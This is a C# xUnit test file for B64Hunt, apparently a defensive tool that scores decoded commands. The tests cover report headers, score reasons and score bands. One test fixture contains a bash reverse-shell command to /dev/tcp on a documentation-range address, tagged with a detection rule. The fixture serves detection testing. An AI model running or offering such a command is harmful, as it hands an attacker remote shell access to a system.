using System;
using System.Collections.Generic;
using System.Linq;
using B64Hunt.Classification;
using B64Hunt.Model;
using B64Hunt.Reports;
using B64Hunt.Scoring;
using Xunit;

namespace B64Hunt.Tests.Reports
{
    /// <summary>Headers that say what share of the ranking is drawn, ScoreReasons in both reports, and bands by model.</summary>
    public class RankingReportTests
    {
        private static readonly DateTime T0 = new DateTime(2024, 5, 1, 10, 0, 0, DateTimeKind.Utc);

        private static IReadOnlyList<CommandScore> Ranked()
        {
            var events = new List<CommandEvent>();
            var shell = new BehaviourHit { RuleId = "revshell-dev-tcp", Category = "Reverse shell", Risk = 5, Techniques = new List<string> { "T1059.004" } };
            events.Add(new CommandEvent { DecodedCommand = "bash -i >& /dev/tcp/198.51.100.4/4444 0>&1", Computer = "web1", TimeGenerated = T0, Behaviours = new List<BehaviourHit> { shell } });
            for (int i = 0; i < 6; i++) events.Add(new CommandEvent { DecodedCommand = "uptime", Computer = "web" + i, TimeGenerated = T0.AddHours(i) });
            events.Add(new CommandEvent { DecodedCommand = "df -h", Computer = "web2", TimeGenerated = T0.AddHours(2) });
            return CommandScorer.Score(events, null, null, null, ScoringModel.Default, RiskTable.Empty).Scores;
        }

        [Fact]
        public void HeadersSayTopNOfTheWholeRanking()
        {
            var layout = TimelineLayout.Build(Ranked(), null, 2);
            Assert.Equal("top 2 of 3 commands (2 of 8 executions)", layout.Summary());
            var console = ConsoleTimelineRenderer.Render(layout, new ConsoleTimelineOptions { Width = 40 }).ToList();
            Assert.StartsWith("B64Hunt timeline: top 2 of 3 commands (2 of 8 executions) on ", console[0]);
            string html = HtmlReportRenderer.Render(layout);
            Assert.Contains("top 2 of 3 commands (2 of 8 executions)", html);
            Assert.Contains("Show-B64Timeline -Top 2", html);
            Assert.Contains("scoring model Default", html);
            // Counterpart: everything drawn says so, without "top".
            Assert.Equal("3 command(s) (8 execution(s))", TimelineLayout.Build(Ranked(), null, 0).Summary());
        }

        [Fact]
        public void ReasonsAppearInTheConsoleListAndTheHtmlTable()
        {
            var layout = TimelineLayout.Build(Ranked(), null, 0);
            var console = ConsoleTimelineRenderer.Render(layout, new ConsoleTimelineOptions { Width = 40 }).ToList();
            Assert.Contains(console, l => l.StartsWith("       why: ", StringComparison.Ordinal) && l.Contains("+5 Reverse shell (T1059.004)"));
            string html = HtmlReportRenderer.Render(layout);
            Assert.Contains("<th>Why (ScoreReasons)</th>", html);
            Assert.Contains("<li>+5 Reverse shell (T1059.004)</li>", html);
        }

        [Fact]
        public void BandsFollowTheModel()
        {
            var routine = new CommandScore { TotalScore = 2.5, Model = "Default" };
            var same = new CommandScore { TotalScore = 2.5, Model = "Notebook" };
            Assert.Equal(ScoreBand.Low, ScoreBands.Of(routine));
            Assert.Equal(ScoreBand.Medium, ScoreBands.Of(same));
            Assert.Equal(ScoreBand.Critical, ScoreBands.Of(new CommandScore { TotalScore = 12, Model = "Default" }));
            Assert.Equal("score 10 or more", ScoreBands.Describe(ScoreBand.Critical, "Default"));
            Assert.Equal("score 6 or more", ScoreBands.Describe(ScoreBand.Critical, "Notebook"));
        }
    }
}
